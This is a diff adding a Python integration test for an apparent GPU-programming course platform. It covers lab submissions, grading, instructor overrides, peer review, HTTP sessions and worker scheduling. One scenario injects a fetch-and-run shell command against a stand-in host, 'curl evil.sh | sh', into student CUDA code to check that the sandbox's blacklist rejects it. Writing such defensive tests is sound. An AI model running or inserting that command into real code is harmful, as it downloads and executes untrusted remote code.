@@ -1,0 +1,170 @@
+"""End-to-end integration: a small course offering on both platforms.
+
+Models a realistic week: students with different skill levels work on
+a lab — one solves it, one submits a buggy kernel, one tries to attack
+the worker — while the instructor monitors through the roster and
+overrides a grade.
+"""
+
+import pytest
+
+from repro.cluster import ManualClock, WorkerConfig
+from repro.core import Role, WebGPU, WebGPU2
+from repro.core.course import CourseOffering
+from repro.labs import get_lab
+from repro.web import Request, WebGpuApp
+
+VECADD = get_lab("vector-add")
+TILED = get_lab("tiled-matmul")
+
+
+@pytest.mark.parametrize("platform_cls", [WebGPU, WebGPU2],
+                         ids=["v1", "v2"])
+def test_course_week(platform_cls):
+    clock = ManualClock()
+    exported = []
+    platform = platform_cls(clock=clock, num_workers=2,
+                            grade_exporter=exported.append)
+    course = platform.create_course(
+        CourseOffering(code="HPP", year=2015,
+                       deadlines={"vector-add": 7 * 86400.0}),
+        ["vector-add", "tiled-matmul"])
+    prof = platform.users.register("hwu@illinois.edu", "Prof", "pw",
+                                   role=Role.INSTRUCTOR)
+
+    ana = platform.users.register("ana@x.com", "Ana", "pw")
+    bob = platform.users.register("bob@x.com", "Bob", "pw")
+    eve = platform.users.register("eve@x.com", "Eve", "pw")
+    for user in (ana, bob, eve):
+        course.enroll(user.user_id)
+
+    # --- Ana solves the lab incrementally -------------------------------
+    platform.save_code("HPP-2015", ana, "vector-add", VECADD.skeleton)
+    clock.advance(600)
+    attempt = platform.compile_code("HPP-2015", ana, "vector-add")
+    assert attempt.compile_ok  # the skeleton compiles
+    platform.save_code("HPP-2015", ana, "vector-add", VECADD.solution)
+    clock.advance(600)
+    attempt = platform.run_attempt("HPP-2015", ana, "vector-add", 0)
+    assert attempt.correct
+    platform.answer_question("HPP-2015", ana, "vector-add", 0,
+                             "because the last block is partial")
+    clock.advance(600)
+    _, grade = platform.submit_for_grading("HPP-2015", ana, "vector-add")
+    assert grade.total_points == 100.0
+
+    # --- Bob's kernel has an off-by-one; partial credit ------------------
+    buggy = VECADD.solution.replace("i < len", "i <= len")
+    platform.save_code("HPP-2015", bob, "vector-add", buggy)
+    clock.advance(600)
+    attempt = platform.run_attempt("HPP-2015", bob, "vector-add", 0)
+    assert not attempt.correct  # out-of-bounds faulted, caught by memcheck
+    clock.advance(600)
+    _, bob_grade = platform.submit_for_grading("HPP-2015", bob,
+                                               "vector-add")
+    assert bob_grade.total_points < grade.total_points
+
+    # --- Eve tries to escape the sandbox ---------------------------------
+    evil = VECADD.solution.replace(
+        "cudaDeviceSynchronize();",
+        'cudaDeviceSynchronize(); system("curl evil.sh | sh");')
+    platform.save_code("HPP-2015", eve, "vector-add", evil)
+    clock.advance(600)
+    attempt = platform.compile_code("HPP-2015", eve, "vector-add")
+    assert not attempt.compile_ok
+    assert "blacklisted" in attempt.report
+
+    # --- the instructor reviews ------------------------------------------
+    roster = platform.instructor_tools.roster(prof, "vector-add")
+    assert {row.email for row in roster} == {"ana@x.com", "bob@x.com",
+                                             "eve@x.com"}
+    detail = platform.instructor_tools.student_detail(prof, bob.user_id,
+                                                      "vector-add")
+    assert len(detail["attempts"]) == 2
+    platform.instructor_tools.comment(
+        prof, bob.user_id, "vector-add",
+        "boundary check should be strict <", now=clock.now())
+    platform.instructor_tools.override_grade(
+        prof, bob.user_id, "vector-add", 50.0, "manual partial credit",
+        now=clock.now())
+    assert platform.gradebook.get(bob.user_id,
+                                  "vector-add").total_points == 50.0
+
+    # grades were exported to the external gradebook (Coursera role)
+    assert len(exported) >= 2
+
+    # --- peer review over submitters --------------------------------------
+    submitters = [ana.user_id, bob.user_id]
+    platform.peer_review.assign("vector-add", submitters)
+    for reviewer in submitters:
+        for assignment in platform.peer_review.assignments_for(
+                "vector-add", reviewer):
+            platform.peer_review.complete(assignment.assignment_id, "ok")
+    assert platform.peer_review.completion_credit(
+        "vector-add", ana.user_id) == 1.0
+
+
+def test_browser_session_through_the_stack():
+    """Drive the v1 platform purely through HTTP-level requests."""
+    clock = ManualClock()
+    platform = WebGPU(clock=clock, num_workers=1)
+    course = platform.create_course(
+        CourseOffering(code="408", year=2015), ["tiled-matmul"])
+    stu = platform.users.register("s@illinois.edu", "Student", "pw")
+    course.enroll(stu.user_id)
+    app = WebGpuApp(platform, "408-2015")
+
+    token = app.handle(Request("POST", "/login", form={
+        "email": "s@illinois.edu", "password": "pw"})).body
+
+    # read the lab manual
+    desc = app.handle(Request("GET", "/lab/tiled-matmul/description",
+                              session_token=token))
+    assert "Tiled Matrix Multiplication" in desc.body
+
+    # paste in the solution and run dataset 1
+    app.handle(Request("POST", "/lab/tiled-matmul/code",
+                       form={"source": TILED.solution},
+                       session_token=token))
+    clock.advance(60)
+    run = app.handle(Request("POST", "/lab/tiled-matmul/run",
+                             form={"dataset": "1"}, session_token=token))
+    assert run.body.startswith("correct")
+
+    # submit and confirm grade + stored attempts + history all visible
+    clock.advance(60)
+    submit = app.handle(Request("POST", "/lab/tiled-matmul/submit",
+                                session_token=token))
+    assert "grade:" in submit.body
+    attempts = app.handle(Request("GET", "/lab/tiled-matmul/attempts",
+                                  session_token=token))
+    assert attempts.body.count("<tr>") >= 2
+    history = app.handle(Request("GET", "/lab/tiled-matmul/history",
+                                 session_token=token))
+    assert "matrixMultiplyShared" in history.body
+
+
+def test_v2_heterogeneous_fleet_serves_mixed_course():
+    """PUMPS-style offering: CUDA, OpenCL and MPI labs on a mixed fleet."""
+    clock = ManualClock()
+    platform = WebGPU2(clock=clock, num_workers=0)
+    platform.add_worker(WorkerConfig(tags=frozenset({"cuda"})))
+    platform.add_worker(WorkerConfig(tags=frozenset({"cuda", "opencl",
+                                                     "mpi"}), num_gpus=4))
+    course = platform.create_course(
+        CourseOffering(code="PUMPS", year=2015),
+        ["vector-add", "opencl-vecadd", "mpi-stencil"])
+    stu = platform.users.register("s@upc.edu", "Attendee", "pw")
+    course.enroll(stu.user_id)
+
+    for slug in ("vector-add", "opencl-vecadd", "mpi-stencil"):
+        lab = get_lab(slug)
+        platform.save_code("PUMPS-2015", stu, slug, lab.solution)
+        clock.advance(120)
+        attempt = platform.run_attempt("PUMPS-2015", stu, slug)
+        assert attempt.correct, (slug, attempt.report)
+
+    # the tagged labs must have run on the capable node
+    jobs = platform.metrics.primary.find("worker_metrics", event="job")
+    by_lab = {row["payload"]["lab"]: row["worker"] for row in jobs}
+    assert by_lab["opencl-vecadd"] == by_lab["mpi-stencil"]
